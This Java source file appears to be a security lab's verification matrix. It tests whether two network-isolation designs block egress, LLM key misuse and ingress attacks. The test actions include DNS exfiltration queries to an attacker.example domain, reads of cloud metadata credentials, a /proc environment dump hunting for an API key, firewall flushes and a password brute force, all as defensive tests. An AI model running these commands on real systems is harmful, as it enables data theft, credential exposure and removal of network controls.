package dev.enclave.lab;

import static dev.enclave.lab.Expectation.fails;
import static dev.enclave.lab.Expectation.works;
import static dev.enclave.lab.LabAddresses.APP_NS;
import static dev.enclave.lab.LabAddresses.NET_NS;
import static dev.enclave.lab.LabAddresses.PUB_NS;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.enclave.lab.LabCheck.From;
import dev.enclave.lab.internet.FakeInternet;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

/**
 * The verification matrix: the seed guide's own list ("should WORK" / "should FAIL", run on the
 * app host), then the attacks the seed's design lets through, then the ingress checks from the
 * internet. Each check says what each design should make of it and why; where Enclave departs
 * from the seed's list on purpose, the reason says so.
 *
 * <p>The seed design keeps Enclave's gateway in front of the app (the seed's nginx, Basic auth and
 * fail2ban are not rebuilt), so its ingress rows are the gateway's; its app side is the seed's own.
 */
public final class LabChecks {
    static final String ENCLAVE = LabDesign.ENCLAVE.name();
    static final String SEED = "seed";
    private static final String SEED_GATEWAY = "the lab keeps Enclave's gateway in front of the seed's app side (the seed: ";
    private static final String DNS_DEVIATION = "deliberate deviation from the seed's list: the proxy resolves names; DNS is an exfiltration channel";
    private static final ObjectMapper JSON = new ObjectMapper();

    private LabChecks() {
    }

    /** Every check, in the order of the table. */
    public static List<LabCheck> all() {
        List<LabCheck> c = new ArrayList<>();
        // The seed guide's "Network Isolation Verification", run from the app side.
        c.add(new LabCheck("seed.curl-google", "curl -m 10 https://google.com", From.APP,
                Map.of(ENCLAVE, fails("not on the egress allowlist; no route around the proxy"),
                        SEED, fails("not among the IPs pinned for api.openai.com")),
                lab -> site(lab, "google.com", LabAddresses.GOOGLE)));
        c.add(new LabCheck("seed.curl-github", "curl -m 10 https://github.com", From.APP,
                Map.of(ENCLAVE, fails("not on the egress allowlist; no route around the proxy"),
                        SEED, fails("not among the IPs pinned for api.openai.com")),
                lab -> site(lab, "github.com", LabAddresses.GITHUB)));
        c.add(new LabCheck("seed.curl-llm", "call the LLM API (models, chat, streamed chat)", From.APP,
                Map.of(ENCLAVE, works("through the LLM relay (OPENAI_BASE_URL), which adds the key; not directly (llm.direct)"),
                        SEED, works("directly to api.openai.com's pinned IPs, key in the app's environment")),
                LabChecks::llmThroughRelay));
        c.add(new LabCheck("llm.address-change", "call the LLM API again after its address changed (" + LabAddresses.LLM_API + " to "
                + LabAddresses.LLM_API_MOVED + ")", From.APP,
                Map.of(ENCLAVE, works("the relay resolves the API's name for each connection; nothing pins an address"),
                        SEED, fails("restrict_network.sh pinned the addresses dig gave when it ran")),
                LabChecks::addressChange, true));
        c.add(new LabCheck("seed.dig", "dig api.openai.com (the resolver 10.0.0.2)", From.APP,
                Map.of(ENCLAVE, fails(DNS_DEVIATION),
                        SEED, works("UDP 53 to the VPC resolver is allowed")),
                LabChecks::dig));
        c.add(new LabCheck("seed.ntp", "ntpdate -q pool.ntp.org (an NTP query to its address)", From.APP,
                Map.of(ENCLAVE, fails("deliberate deviation from the seed's list: an open UDP port to any address is a way out; the host keeps the time"),
                        SEED, works("UDP 123 to anywhere is allowed")),
                LabChecks::ntp));
        c.add(new LabCheck("seed.ping", "ping 8.8.8.8", From.APP,
                Map.of(ENCLAVE, fails("no ICMP out: the firewall's drop policy"),
                        SEED, fails("OUTPUT policy DROP")),
                LabChecks::ping));
        c.add(new LabCheck("seed.wget-example", "wget http://example.com", From.APP,
                Map.of(ENCLAVE, fails("not on the egress allowlist; no route around the proxy"),
                        SEED, fails("port 80 is not allowed out")),
                LabChecks::wgetExample));
        // What the seed's design lets through.
        c.add(new LabCheck("llm.direct", "reach api.openai.com directly, not through the relay", From.APP,
                Map.of(ENCLAVE, fails("the relay is the only way to the LLM API: a direct call could carry any key"),
                        SEED, works("its pinned IPs are open on 443")),
                LabChecks::llmDirect));
        c.add(new LabCheck("llm.own-key", "call the LLM API with a key of the app's own choosing", From.APP,
                Map.of(ENCLAVE, fails("the relay replaces whatever key the app sends with the organisation's"),
                        SEED, works("the app talks to the API directly, with any key")),
                LabChecks::ownKey));
        c.add(new LabCheck("llm.read-key", "the app's user reads the LLM API key", From.APP,
                Map.of(ENCLAVE, fails("the key is in a 0600 root file read by the relay on the public side; the app gets a placeholder"),
                        SEED, works("the key is in the app's environment (systemd unit)")),
                LabChecks::readKey));
        c.add(new LabCheck("llm.neighbour", "another site on the LLM API's address (" + LabAddresses.NEIGHBOUR_NAME + ")", From.APP,
                Map.of(ENCLAVE, fails("the proxy allows names, not addresses, and the relay talks only to its upstream"),
                        SEED, works("the firewall pins addresses; any site on them passes")),
                LabChecks::neighbour));
        c.add(new LabCheck("dns.exfiltration", "a DNS query carrying data reaches the internet's resolver", From.APP,
                Map.of(ENCLAVE, fails("no DNS from the app side; the proxy resolves only allowed names"),
                        SEED, works("UDP 53 to the resolver is open and it recurses for any name")),
                LabChecks::dnsExfiltration));
        c.add(new LabCheck("metadata", "read instance credentials from 169.254.169.254", From.APP,
                Map.of(ENCLAVE, fails("the firewall drops the metadata address first; the proxy refuses link-local addresses"),
                        SEED, fails("from the host itself: OUTPUT policy DROP (from a container it passes: container.metadata)")),
                LabChecks::metadata));
        c.add(new LabCheck("container.google", "from a container behind the app host (Docker's bridge and masquerade): https://google.com", From.APP,
                Map.of(ENCLAVE, fails("the firewall's forward chain (policy drop) stops the container's traffic as output stops the host's"),
                        SEED, works("restrict_network.sh filters OUTPUT only; a container's packets take FORWARD")),
                lab -> fromContainer(lab, "https://google.com/", "google.com (lab)")));
        c.add(new LabCheck("container.metadata", "from a container behind the app host: read instance credentials from 169.254.169.254", From.APP,
                Map.of(ENCLAVE, fails("the forward chain drops the metadata address first"),
                        SEED, works("FORWARD is not filtered; the NAT takes the container to the metadata service")),
                lab -> fromContainer(lab, "http://" + LabAddresses.METADATA + "/latest/meta-data/iam/security-credentials/enclave-lab-role",
                        FakeInternet.METADATA_SECRET)));
        c.add(new LabCheck("firewall.flush", "the app's user flushes the firewall rules", From.APP,
                Map.of(ENCLAVE, fails("the app's user has no CAP_NET_ADMIN (setpriv, no new privileges)"),
                        SEED, works("the app user runs sudo (sudo iptables -F OUTPUT)")),
                LabChecks::flush, true));
        // Ingress, from the internet.
        c.add(new LabCheck("ingress.app-direct", "reach the app's port (" + LabAddresses.APP + ":" + LabAddresses.APP_PORT + ") directly", From.INTERNET,
                Map.of(ENCLAVE, fails("the app accepts connections from the gateway only"),
                        SEED, fails("the security group admits port 3000 from the proxy only (the lab: no new connections in through the NAT host)")),
                LabChecks::appDirect));
        c.add(new LabCheck("ingress.plain-http", "get the app over plain HTTP from the gateway", From.INTERNET,
                Map.of(ENCLAVE, fails("the gateway speaks TLS only; plain HTTP gets a redirect"),
                        SEED, fails(SEED_GATEWAY + "nginx redirects HTTP to HTTPS)")),
                LabChecks::plainHttp));
        c.add(new LabCheck("ingress.no-credentials", "get the app through the gateway without credentials", From.INTERNET,
                Map.of(ENCLAVE, fails("401 / the login page"),
                        SEED, fails(SEED_GATEWAY + "nginx Basic auth, 401)")),
                lab -> gatewayAs(lab, null, null)));
        c.add(new LabCheck("ingress.right-credentials", "get the app through the gateway with the right credentials", From.INTERNET,
                Map.of(ENCLAVE, works("the gateway proxies to the app"),
                        SEED, works(SEED_GATEWAY + "nginx proxies to the app)")),
                lab -> gatewayAs(lab, lab.adminUser(), lab.adminPassword())));
        c.add(new LabCheck("ingress.brute-force", "five wrong passwords, then the right one from the same address", From.INTERNET,
                Map.of(ENCLAVE, fails("the gateway bans the address after five failures"),
                        SEED, fails(SEED_GATEWAY + "fail2ban bans the address)")),
                LabChecks::bruteForce));
        return List.copyOf(c);
    }

    // --- the seed's list ---

    private static Observation site(LabContext lab, String name, String address) {
        Curl.Answer proxy = Curl.asApp(lab, "--cacert", lab.caPem().toString(), "https://" + name + "/");
        Curl.Answer direct = Curl.asApp(lab, "--noproxy", "*", "--cacert", lab.caPem().toString(),
                "--resolve", name + ":443:" + address, "https://" + name + "/");
        String evidence = "via the proxy: " + proxy.phrase() + "; direct to " + address + ": " + direct.phrase();
        boolean reached = proxy.body().contains(name + " (lab)") || direct.body().contains(name + " (lab)");
        return reached ? Observation.worked(evidence) : Observation.failed(evidence);
    }

    private static Observation llmThroughRelay(LabContext lab) {
        String base = lab.appEnvironment().get("OPENAI_BASE_URL");
        String auth = "Authorization: Bearer " + lab.appEnvironment().get("OPENAI_API_KEY");
        Curl.Answer models = Curl.asApp(lab, "-H", auth, base + "/models");
        Curl.Answer chat = Curl.asApp(lab, "-H", auth, "-H", "Content-Type: application/json",
                "-d", "{\"model\":\"" + FakeInternet.MODEL + "\",\"messages\":[{\"role\":\"user\",\"content\":\"hi\"}]}", base + "/chat/completions");
        Curl.Answer stream = Curl.asApp(lab, "-N", "-H", auth, "-H", "Content-Type: application/json",
                "-d", "{\"model\":\"" + FakeInternet.MODEL + "\",\"stream\":true,\"messages\":[{\"role\":\"user\",\"content\":\"hi\"}]}",
                base + "/chat/completions");
        long events = stream.body().lines().filter(l -> l.startsWith("data: {")).count();
        boolean ok = models.status() == 200 && models.body().contains(FakeInternet.MODEL)
                && chat.status() == 200 && chat.body().contains(FakeInternet.REPLY)
                && stream.status() == 200 && events > 0 && stream.body().contains("data: [DONE]");
        String evidence = "GET " + base + "/models: " + models.phrase() + "; chat: " + (chat.answered() ? "HTTP " + chat.status()
                + (chat.body().contains(FakeInternet.REPLY) ? " with the API's reply" : "") : chat.error())
                + "; streamed chat: " + (stream.answered() ? "HTTP " + stream.status() + ", " + events + " events" : stream.error());
        return ok ? Observation.worked(evidence) : Observation.failed(evidence);
    }

    private static Observation addressChange(LabContext lab) throws IOException {
        String base = lab.appEnvironment().get("OPENAI_BASE_URL");
        String auth = "Authorization: Bearer " + lab.appEnvironment().get("OPENAI_API_KEY");
        LabShell.Run moved = LabShell.root(NET_NS, 10, "curl", "-sS", "-f", "-X", "POST",
                "http://127.0.0.1:" + LabAddresses.CONTROL_PORT + "/move-api");
        if (!moved.ok()) {
            throw new IOException("the fake internet did not move the API: " + moved.firstLine());
        }
        try {
            int before = llmCalls(lab).size();
            Curl.Answer after = Curl.asApp(lab, "-H", auth, base + "/models");
            List<JsonNode> calls = llmCalls(lab);
            String arrivedAt = calls.size() > before ? calls.get(calls.size() - 1).path("at").asText("?") : "nowhere (no call recorded)";
            Curl.Answer old = Curl.in(PUB_NS, "--cacert", lab.caPem().toString(), "--resolve",
                    LabAddresses.LLM_NAME + ":443:" + LabAddresses.LLM_API, "https://" + LabAddresses.LLM_NAME + "/v1/models");
            boolean ok = after.status() == 200 && after.body().contains(FakeInternet.MODEL) && arrivedAt.equals(LabAddresses.LLM_API_MOVED);
            String evidence = "after the move (the resolver answers " + LabAddresses.LLM_API_MOVED + "; " + LabAddresses.LLM_API + " now answers "
                    + (old.answered() ? "HTTP " + old.status() : old.error()) + "): the app's call to " + base + " got "
                    + (after.answered() ? "HTTP " + after.status() : after.error()) + ", the call arrived at " + arrivedAt;
            return ok ? Observation.worked(evidence) : Observation.failed(evidence);
        } finally {
            LabShell.root(NET_NS, 10, "curl", "-sS", "-f", "-X", "POST", "http://127.0.0.1:" + LabAddresses.CONTROL_PORT + "/restore-api");
        }
    }

    private static Observation dig(LabContext lab) {
        LabShell.Run r = LabShell.asApp(lab, 8,
                List.of("dig", "+time=2", "+tries=1", "@" + LabAddresses.RESOLVER, LabAddresses.LLM_NAME, "A"));
        boolean answered = r.output().contains("ANSWER SECTION") && r.output().contains(LabAddresses.LLM_API);
        String evidence = answered ? "answer: " + LabAddresses.LLM_NAME + " A " + LabAddresses.LLM_API
                : "dig: " + r.output().lines().filter(l -> l.startsWith(";;") && !l.contains("global options")).findFirst()
                        .orElse(r.lastLine()).replace(";; ", "");
        return answered ? Observation.worked(evidence) : Observation.failed(evidence);
    }

    private static Observation ntp(LabContext lab) {
        // One NTP client packet (LI 0, version 3, mode 3, then 47 zero bytes), as ntpdate -q sends.
        LabShell.Run r = LabShell.asApp(lab, 8, List.of("sh", "-c",
                "{ printf '\\033'; head -c 47 /dev/zero; } | socat -t 3 - UDP:" + LabAddresses.NTP + ":123 | wc -c"));
        String count = r.output().strip();
        boolean answered = count.matches("\\d+") && Integer.parseInt(count) >= 48;
        String evidence = answered ? "a " + count + "-byte NTP answer from " + LabAddresses.NTP + " (" + LabAddresses.NTP_NAME + ")"
                : "no NTP answer from " + LabAddresses.NTP + " (" + LabAddresses.NTP_NAME + ") within 3 s" + (r.ok() ? "" : ": " + r.firstLine());
        return answered ? Observation.worked(evidence) : Observation.failed(evidence);
    }

    private static Observation ping(LabContext lab) {
        LabShell.Run r = LabShell.asApp(lab, 8, List.of("ping", "-n", "-c", "2", "-W", "2", LabAddresses.PUBLIC_DNS));
        String summary = r.output().lines().filter(l -> l.contains("packets transmitted")).findFirst().orElse(r.lastLine());
        LabShell.Run control = LabShell.root(PUB_NS, 8, "ping", "-n", "-c", "1", "-W", "2", LabAddresses.PUBLIC_DNS);
        String evidence = summary.strip() + " (from enclave-pub: " + (control.ok() ? "answers" : "no answer either") + ")";
        return r.ok() ? Observation.worked(evidence) : Observation.failed(evidence);
    }

    private static Observation wgetExample(LabContext lab) {
        LabShell.Run proxy = LabShell.asApp(lab, 10,
                List.of("wget", "-O", "-", "-T", "3", "-t", "1", "http://example.com/"));
        LabShell.Run direct = LabShell.asApp(lab, 10,
                List.of("wget", "--no-proxy", "-O", "-", "-T", "3", "-t", "1", "--header", "Host: example.com", "http://" + LabAddresses.EXAMPLE + "/"));
        boolean reached = proxy.output().contains("example.com (lab)") || direct.output().contains("example.com (lab)");
        String evidence = "via the proxy: " + wgetOutcome(proxy) + "; direct to " + LabAddresses.EXAMPLE + ": " + wgetOutcome(direct);
        return reached ? Observation.worked(evidence) : Observation.failed(evidence);
    }

    private static String wgetOutcome(LabShell.Run r) {
        return r.output().lines().map(String::strip)
                .filter(l -> l.contains("ERROR") || l.contains("failed") || l.contains("timed out") || l.contains("200 OK") || l.contains("response"))
                .reduce((a, b) -> b).orElse(r.lastLine());
    }

    // --- what the seed's design lets through ---

    private static Observation llmDirect(LabContext lab) {
        String auth = "Authorization: Bearer " + lab.appEnvironment().get("OPENAI_API_KEY");
        Curl.Answer proxy = Curl.asApp(lab, "--cacert", lab.caPem().toString(), "-H", auth, "https://" + LabAddresses.LLM_NAME + "/v1/models");
        Curl.Answer direct = Curl.asApp(lab, "--noproxy", "*", "--cacert", lab.caPem().toString(), "-H", auth,
                "--resolve", LabAddresses.LLM_NAME + ":443:" + LabAddresses.LLM_API, "https://" + LabAddresses.LLM_NAME + "/v1/models");
        String evidence = "via the proxy: " + proxy.phrase() + "; direct to " + LabAddresses.LLM_API + ": " + direct.phrase();
        return proxy.answered() || direct.answered() ? Observation.worked(evidence) : Observation.failed(evidence);
    }

    private static Observation ownKey(LabContext lab) throws IOException {
        String mine = "sk-app-own-" + Long.toHexString(System.nanoTime());
        String auth = "Authorization: Bearer " + mine;
        String base = lab.appEnvironment().get("OPENAI_BASE_URL");
        Curl.Answer relay = Curl.asApp(lab, "-H", auth, base + "/models");
        Curl.Answer direct = Curl.asApp(lab, "--noproxy", "*", "--cacert", lab.caPem().toString(), "-H", auth,
                "--resolve", LabAddresses.LLM_NAME + ":443:" + LabAddresses.LLM_API, "https://" + LabAddresses.LLM_NAME + "/v1/models");
        Curl.Answer proxy = Curl.asApp(lab, "--cacert", lab.caPem().toString(), "-H", auth, "https://" + LabAddresses.LLM_NAME + "/v1/models");
        List<JsonNode> calls = llmCalls(lab);
        long withMine = calls.stream().filter(c -> mine.equals(c.path("key").asText(null))).count();
        long withOrg = calls.stream().filter(c -> lab.orgKey().equals(c.path("key").asText(null))).count();
        long other = calls.size() - withMine - withOrg;
        String evidence = "the API saw the app's key on " + withMine + " call(s), the org key on " + withOrg
                + (other == 0 ? "" : ", other keys on " + other) + " (of " + calls.size() + "); the relay answered " + relay.phrase()
                + "; direct: " + direct.phrase() + "; via the proxy: " + proxy.phrase();
        return withMine > 0 ? Observation.worked(evidence) : Observation.failed(evidence);
    }

    private static Observation readKey(LabContext lab) {
        // The app's user dumps what it can read: the key file, every process's environment and command
        // line. The key is searched for here, never put on the command line (which /proc would show).
        String script = "cat " + lab.keyFile() + " 2>&1; echo; n=0; for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do "
                + "if cat \"$f\" 2>/dev/null; then n=$((n+1)); fi; echo; done; echo \"@@read $n\"";
        LabShell.Run r = LabShell.asApp(lab, 15, List.of("sh", "-c", script));
        boolean found = r.output().contains(lab.orgKey());
        String keyFileSays = r.output().lines().findFirst().orElse("").strip();
        String read = r.output().lines().filter(l -> l.startsWith("@@read ")).map(l -> l.substring(7)).findFirst().orElse("?");
        String evidence = "cat " + lab.keyFile() + ": " + (found && !keyFileSays.contains("denied") ? "the key" : keyFileSays)
                + "; the key is " + (found ? "" : "not ") + "in the " + read + " /proc environ and cmdline files the app's user can read";
        return found ? Observation.worked(evidence) : Observation.failed(evidence);
    }

    private static Observation neighbour(LabContext lab) {
        String name = LabAddresses.NEIGHBOUR_NAME;
        Curl.Answer proxy = Curl.asApp(lab, "--cacert", lab.caPem().toString(), "https://" + name + "/");
        Curl.Answer direct = Curl.asApp(lab, "--noproxy", "*", "--cacert", lab.caPem().toString(),
                "--resolve", name + ":443:" + LabAddresses.LLM_API, "https://" + name + "/");
        Curl.Answer relay = Curl.asApp(lab, "-H", "Host: " + name, lab.appEnvironment().get("OPENAI_BASE_URL") + "/models");
        boolean reached = proxy.body().contains(FakeInternet.NEIGHBOUR_PAGE) || direct.body().contains(FakeInternet.NEIGHBOUR_PAGE)
                || relay.body().contains(FakeInternet.NEIGHBOUR_PAGE);
        String evidence = "via the proxy: " + proxy.phrase() + "; direct to " + LabAddresses.LLM_API + ": " + direct.phrase()
                + "; via the relay with Host " + name + ": " + (relay.body().contains(FakeInternet.MODEL) ? "HTTP " + relay.status()
                        + " from api.openai.com (the relay sends every call to its upstream)" : relay.phrase());
        return reached ? Observation.worked(evidence) : Observation.failed(evidence);
    }

    private static Observation dnsExfiltration(LabContext lab) throws IOException {
        String marker = "x" + Long.toHexString(System.nanoTime()) + "secret";
        LabShell.Run resolver = LabShell.asApp(lab, 8,
                List.of("dig", "+time=2", "+tries=1", "@" + LabAddresses.RESOLVER, marker + ".a.exfil.attacker.example", "TXT"));
        LabShell.Run google = LabShell.asApp(lab, 8,
                List.of("dig", "+time=2", "+tries=1", "@" + LabAddresses.PUBLIC_DNS, marker + ".b.exfil.attacker.example", "A"));
        Curl.Answer proxy = Curl.asApp(lab, "https://" + marker + ".c.exfil.attacker.example/");
        long seen = Files.exists(lab.dnsLog()) ? Files.readAllLines(lab.dnsLog(), StandardCharsets.UTF_8).stream().filter(l -> l.contains(marker)).count() : 0;
        long all = Files.exists(lab.dnsLog()) ? Files.readAllLines(lab.dnsLog(), StandardCharsets.UTF_8).size() : 0;
        String evidence = "the resolver logged " + seen + " quer" + (seen == 1 ? "y" : "ies") + " naming " + marker + " (of " + all
                + " in its log); dig @" + LabAddresses.RESOLVER + ": " + digOutcome(resolver) + "; dig @" + LabAddresses.PUBLIC_DNS
                + ": " + digOutcome(google) + "; CONNECT to " + marker + ".c.exfil.attacker.example: " + proxy.phrase();
        return seen > 0 ? Observation.worked(evidence) : Observation.failed(evidence);
    }

    private static String digOutcome(LabShell.Run r) {
        if (r.output().contains("status: ")) {
            String s = r.output().substring(r.output().indexOf("status: ") + 8);
            return "answered " + s.substring(0, s.indexOf(',') < 0 ? s.length() : s.indexOf(','));
        }
        return r.output().lines().filter(l -> l.startsWith(";;") && !l.contains("global options")).findFirst()
                .orElse(r.lastLine()).replace(";; ", "");
    }

    private static Observation metadata(LabContext lab) {
        String url = "http://" + LabAddresses.METADATA + "/latest/meta-data/iam/security-credentials/enclave-lab-role";
        Curl.Answer direct = Curl.asApp(lab, "--noproxy", "*", url);
        Curl.Answer proxy = Curl.asApp(lab, url);
        Curl.Answer control = Curl.in(PUB_NS, url);
        boolean reached = direct.body().contains(FakeInternet.METADATA_SECRET) || proxy.body().contains(FakeInternet.METADATA_SECRET);
        String evidence = "direct: " + direct.phrase() + "; via the proxy: " + proxy.phrase() + " (from enclave-pub it answers: "
                + (control.body().contains(FakeInternet.METADATA_SECRET) ? "HTTP " + control.status() + " with credentials" : control.phrase()) + ")";
        return reached ? Observation.worked(evidence) : Observation.failed(evidence);
    }

    private static Observation fromContainer(LabContext lab, String url, String proof) {
        // As root in the container (Docker's default user), no proxy: a container has none unless given one.
        String host = url.replaceFirst("^https?://", "").replaceFirst("/.*$", "");
        List<String> args = new ArrayList<>(List.of("--cacert", lab.caPem().toString()));
        if (host.equals("google.com")) {
            args.addAll(List.of("--resolve", "google.com:443:" + LabAddresses.GOOGLE));
        }
        args.add(url);
        Curl.Answer a = Curl.in(LabAddresses.CONTAINER_NS, args.toArray(String[]::new));
        boolean reached = a.body().contains(proof);
        String evidence = "from " + LabAddresses.CONTAINER + " (" + LabAddresses.CONTAINER_NS + ") to " + url + ": "
                + (reached ? "HTTP " + a.status() + (proof.equals(FakeInternet.METADATA_SECRET) ? " with the instance credentials" : " with the site's page") : a.phrase());
        return reached ? Observation.worked(evidence) : Observation.failed(evidence);
    }

    private static Observation flush(LabContext lab) throws IOException {
        if (lab.design().equals(LabDesign.SEED)) {
            return flushSeed(lab);
        }
        LabShell.Run flush = LabShell.asApp(lab, 8, List.of("nft", "flush", "ruleset"));
        LabShell.Run route = LabShell.asApp(lab, 8, List.of("ip", "route", "add", "192.0.2.0/24", "dev", "eth0"));
        LabShell.Run table = LabShell.root(APP_NS, 8, "nft", "list", "table", "inet", "enclave");
        boolean intact = table.ok() && table.output().contains("policy drop");
        String evidence = "nft flush ruleset: " + (flush.ok() ? "exit 0" : flush.firstLine()) + "; ip route add: "
                + (route.ok() ? "exit 0" : route.firstLine()) + "; table inet enclave afterwards: " + (intact ? "intact (policy drop)" : "GONE or changed");
        if (route.ok()) {
            LabShell.root(null, 8, "ip", "-n", APP_NS, "route", "del", "192.0.2.0/24");
        }
        return flush.ok() || !intact ? Observation.worked(evidence) : Observation.failed(evidence);
    }

    private static Observation flushSeed(LabContext lab) throws IOException {
        LabShell.Run flush = LabShell.asApp(lab, 8, List.of("sudo", "-n", "iptables", "-F", "OUTPUT"));
        LabShell.Run after = LabShell.root(APP_NS, 8, "iptables", "-S", "OUTPUT");
        long rules = after.output().lines().filter(l -> l.startsWith("-A OUTPUT")).count();
        String evidence = "as " + lab.appUser() + ": sudo -n iptables -F OUTPUT: " + (flush.ok() ? "exit 0" : flush.lastLine())
                + "; OUTPUT afterwards: " + rules + " rule(s) (restrict_network.sh's rules " + (rules == 0 ? "are GONE" : "remain") + ")";
        // Put the seed's rules back for whatever runs after (a second verify).
        SeedControls.restore(lab.dir());
        return flush.ok() && rules == 0 ? Observation.worked(evidence) : Observation.failed(evidence);
    }

    // --- ingress ---

    private static String gateway() {
        return "https://" + LabAddresses.PUB + ":" + LabAddresses.GATEWAY_PORT + "/";
    }

    private static Observation appDirect(LabContext lab) {
        Curl.Answer a = Curl.in(NET_NS, "http://" + LabAddresses.APP + ":" + LabAddresses.APP_PORT + "/");
        String evidence = "http://" + LabAddresses.APP + ":" + LabAddresses.APP_PORT + "/: " + a.phrase();
        return a.answered() ? Observation.worked(evidence) : Observation.failed(evidence);
    }

    private static Observation plainHttp(LabContext lab) {
        Curl.Answer tlsPort = Curl.in(NET_NS, "http://" + LabAddresses.PUB + ":" + LabAddresses.GATEWAY_PORT + "/");
        Curl.Answer redirect = Curl.in(NET_NS, "-u", lab.adminUser() + ":" + lab.adminPassword(), "-D", "-",
                "http://" + LabAddresses.PUB + ":" + LabAddresses.REDIRECT_PORT + "/");
        boolean app = isApp(tlsPort) || isApp(redirect);
        String location = redirect.body().lines().filter(l -> l.regionMatches(true, 0, "location:", 0, 9)).findFirst().map(String::strip).orElse("");
        String evidence = "http://" + LabAddresses.PUB + ":" + LabAddresses.GATEWAY_PORT + "/: " + tlsPort.phrase() + "; http://" + LabAddresses.PUB
                + ":" + LabAddresses.REDIRECT_PORT + "/: " + (redirect.answered() ? "HTTP " + redirect.status() + (location.isEmpty() ? "" : " " + location) : redirect.error());
        return app ? Observation.worked(evidence) : Observation.failed(evidence);
    }

    private static boolean isApp(Curl.Answer a) {
        return a.status() == 200 && a.body().contains(LabAddresses.APP_TITLE);
    }

    private static Observation gatewayAs(LabContext lab, String user, String password) {
        Curl.Answer a = user == null ? Curl.in(NET_NS, "-k", gateway())
                : Curl.in(NET_NS, "-k", "-u", user + ":" + password, gateway());
        String evidence = gateway() + (user == null ? " without credentials: " : " as " + user + ": ")
                + (isApp(a) ? "HTTP 200, the app's page (\"" + LabAddresses.APP_TITLE + "\")" : a.phrase());
        return isApp(a) ? Observation.worked(evidence) : Observation.failed(evidence);
    }

    private static Observation bruteForce(LabContext lab) throws IOException {
        String from = LabAttacker.nextAddress(lab);
        LabShell.must(null, "ip", "-n", NET_NS, "addr", "add", from + "/24", "dev", LabAddresses.NET_LINK);
        try {
            List<String> wrong = new ArrayList<>();
            for (int i = 1; i <= 5; i++) {
                Curl.Answer a = Curl.in(NET_NS, "-k", "--interface", from, "-u", lab.adminUser() + ":wrong-password-" + i, gateway());
                wrong.add(a.answered() ? Integer.toString(a.status()) : a.error());
            }
            Curl.Answer right = Curl.in(NET_NS, "-k", "--interface", from, "-u", lab.adminUser() + ":" + lab.adminPassword(), gateway());
            String evidence = "from " + from + ": five wrong passwords got " + String.join(", ", wrong) + "; then the right one: "
                    + (isApp(right) ? "HTTP 200, the app's page" : right.phrase());
            return isApp(right) ? Observation.worked(evidence) : Observation.failed(evidence);
        } finally {
            LabShell.root(null, 8, "ip", "-n", NET_NS, "addr", "del", from + "/24", "dev", LabAddresses.NET_LINK);
        }
    }

    private static List<JsonNode> llmCalls(LabContext lab) throws IOException {
        List<JsonNode> calls = new ArrayList<>();
        Path log = lab.llmLog();
        if (Files.exists(log)) {
            for (String line : Files.readAllLines(log, StandardCharsets.UTF_8)) {
                if (!line.isBlank()) {
                    calls.add(JSON.readTree(line));
                }
            }
        }
        return calls;
    }
}
